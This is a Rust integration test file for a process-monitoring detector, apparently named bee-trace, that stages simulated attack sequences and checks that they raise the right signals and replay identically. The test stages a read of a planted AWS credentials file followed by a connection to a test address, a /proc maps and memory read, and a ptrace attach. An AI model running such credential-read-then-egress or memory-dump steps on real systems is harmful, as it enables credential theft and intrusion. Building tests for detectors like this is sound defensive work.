//! Rules, for real: a credential read followed by a connect out of the
//! machine, and a memory dump after the target's maps were listed, each
//! raise their built-in signal naming the events that made it; a replay of
//! the run's record gives exactly the same signals, every time.

mod common;

use std::process::Command;

use common::*;
use serde_json::Value;

const LISTENER: &str = r#"
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.51.100.3", 18083)); s.listen(8)
print("ready", flush=True)
sys.stdin.read()
"#;

/// PTRACE_ATTACH to the pid in argv[1], then detach.
const PTRACE: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
assert libc.ptrace(16, pid, None, None) == 0
os.waitpid(pid, 0)
assert libc.ptrace(17, pid, None, None) == 0
"#;

fn key_of(s: &Value) -> (String, u64, Vec<u64>, String) {
    (
        s["rule"].as_str().unwrap().to_string(),
        s["root"]["pid"].as_u64().unwrap(),
        s["events"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_u64().unwrap())
            .collect(),
        s["ts"].as_str().unwrap().to_string(),
    )
}

fn replay(rec: &std::path::Path, extra: &[&str]) -> Vec<Value> {
    let out = Command::new(BIN)
        .arg("replay")
        .arg(rec)
        .args(extra)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn attack_sequences_raise_signals_and_replay_gives_the_same() {
    if !root_or_skip("attack_sequences_raise_signals_and_replay_gives_the_same") {
        return;
    }
    let s = Scratch::new("rules");
    let ns = Netns::new();
    let _server = NsServer::start(&ns, LISTENER);
    let creds = s.path("home/.aws/credentials");
    std::fs::create_dir_all(creds.parent().unwrap()).unwrap();
    std::fs::write(&creds, "[default]\n").unwrap();
    let rec = s.path("run.record");
    let md = s.path("report.md");
    let mon = Monitor::start(
        &s.0,
        &[
            "--record",
            rec.to_str().unwrap(),
            "--report-md",
            md.to_str().unwrap(),
        ],
    );

    // A step reads a credential, then phones home.
    let steal = run(Command::new("sh").args([
        "-c",
        &format!(
            "cat {} > /dev/null; python3 -c 'import socket; socket.create_connection((\"198.51.100.3\", 18083), 5).close()'",
            creds.display()
        ),
    ]));
    // Another lists a process's maps, then opens its memory.
    let mut target = Command::new("sleep").arg("30").spawn().unwrap();
    let dump = run(Command::new("python3").args([
        "-c",
        "import sys; p = sys.argv[1]; open(f'/proc/{p}/maps').read(); open(f'/proc/{p}/mem', 'rb').close()",
        &target.id().to_string(),
    ]));
    // Another attaches to a program that is not its own.
    let tracer = run(Command::new("python3").args(["-c", PTRACE, &target.id().to_string()]));
    let events = mon.stop();
    target.kill().unwrap();
    target.wait().unwrap();

    let signals: Vec<&Value> = events.iter().filter(|e| e["type"] == "signal").collect();
    // Other processes on the host (another test run's among them) may make
    // the same events and raise the same rules: only the acting process's
    // own events count, and the signal of its own trace, the one whose root
    // is the acting process or one of its ancestors.
    let own = |kind: &str, pid: u32, pred: &dyn Fn(&Value) -> bool| -> &Value {
        from_tree(&events, kind, pid)
            .into_iter()
            .find(|e| pred(e))
            .unwrap_or_else(|| panic!("no {kind} event of {pid}:\n{}", describe(&events)))
    };
    let id = |e: &Value| e["id"].as_u64().unwrap();
    let signal_of = |name: &str, ev: &Value| -> &Value {
        signals
            .iter()
            .find(|g| g["rule"] == name && in_tree(ev, g["root"]["pid"].as_u64().unwrap() as u32))
            .unwrap_or_else(|| panic!("no {name} signal for {ev}:\n{}", describe(&events)))
    };
    let read = own("file", steal, &|e| e["path"] == creds.to_str().unwrap());
    let connect = own("network", steal, &|e| e["daddr"] == "198.51.100.3");
    let g = signal_of("credential-read-then-egress", connect);
    assert_eq!(g["severity"], "critical");
    assert_eq!(g["events"], serde_json::json!([id(read), id(connect)]));
    assert!(g["tags"].as_array().unwrap().iter().any(|t| t == "T1041"));

    let maps = own("memory", dump, &|e| {
        e["kind"] == "proc_maps" && e["pid"] == dump
    });
    let mem = own("memory", dump, &|e| {
        e["kind"] == "proc_mem" && e["pid"] == dump
    });
    let g = signal_of("runner-memory-dump", mem);
    assert_eq!(g["events"], serde_json::json!([id(maps), id(mem)]));

    let attach = own("memory", tracer, &|e| {
        e["kind"] == "ptrace" && e["pid"] == tracer
    });
    let g = signal_of("ptrace-attach-to-another-program", attach);
    assert_eq!(g["events"], serde_json::json!([id(attach)]));

    // Signals lead the report.
    let report = std::fs::read_to_string(&md).unwrap();
    let sig_at = report.find("## Signals").unwrap();
    assert!(sig_at < report.find("## Events").unwrap());
    assert!(report.contains("`credential-read-then-egress`"), "{report}");

    // Replay: the same signals, twice over.
    let live: Vec<_> = signals.iter().map(|g| key_of(g)).collect();
    let first: Vec<_> = replay(&rec, &[]).iter().map(key_of).collect();
    assert_eq!(first, live);
    let second: Vec<_> = replay(&rec, &[]).iter().map(key_of).collect();
    assert_eq!(second, first);
    // A window after everything holds no signal.
    assert!(replay(&rec, &["--since", "2500-01-01T00:00:00Z"]).is_empty());
}

#[test]
fn bad_rule_files_are_refused_with_their_place() {
    let s = Scratch::new("rules-bad");
    std::fs::write(
        s.path("mine.yml"),
        "rules:\n  - name: mine\n    severity: high\n    description: d\n    condition: |\n      has(file).where(pathh == \"x\")\n",
    )
    .unwrap();
    let out = Command::new(BIN)
        .args(["rules", "--list", "--rules"])
        .arg(&s.0)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("mine.yml:6:23") && err.contains("`pathh` is not a field of file events"),
        "{err}"
    );
    let ok = s.path("ok");
    std::fs::create_dir_all(&ok).unwrap();
    std::fs::write(
        ok.join("mine.yml"),
        "rules:\n  - name: mine\n    severity: high\n    description: mine\n    condition: has(file).where(path endswith \".secret\")\n",
    )
    .unwrap();
    let out = Command::new(BIN)
        .args(["rules", "--list", "--rules"])
        .arg(&ok)
        .output()
        .unwrap();
    assert!(out.status.success());
    let list = String::from_utf8_lossy(&out.stdout);
    assert!(
        list.contains("credential-read-then-egress") && list.contains("mine "),
        "{list}"
    );
}

#[test]
fn a_list_whose_reader_has_gone_ends_quietly() {
    // `bee-trace rules --list | head -1`, with the reader gone before the
    // first write, so every write meets EPIPE (SIGPIPE is ignored by Rust
    // programs): before, println! panicked with exit code 101.
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let out = Command::new(BIN)
        .args(["rules", "--list"])
        .stdout(writer)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{:?}: {err}", out.status);
    assert_eq!(err, "", "a closed pipe is said nothing about");
}
